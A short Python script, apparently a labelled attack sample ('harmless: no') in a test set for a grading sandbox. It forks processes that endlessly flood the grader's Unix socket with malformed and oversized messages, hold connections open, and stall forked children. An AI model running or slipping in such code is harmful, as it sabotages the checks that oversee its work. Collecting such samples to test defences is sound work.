# attack: connections without number to the socket on which the grader waits for its forks
# harmless: no
import glob
import os
import socket
import time

says = [b"", b"\0" * 7, b"\xff" * 9, b"\0\0\0\0\0\xe0\0\0" + bytes(100_000), b"\0" * 8000]
for number in range(8):
    if os.fork() == 0:
        held = []
        while True:
            try:
                stranger = socket.socket(socket.AF_UNIX)
                stranger.connect(*glob.glob("/sockets/*/checks"))
                stranger.setblocking(False)
                stranger.send(says[number % 5])
                if number > 4:
                    held.append(stranger)
            except OSError:
                time.sleep(0.01)
os.register_at_fork(after_in_child=lambda: time.sleep(1))
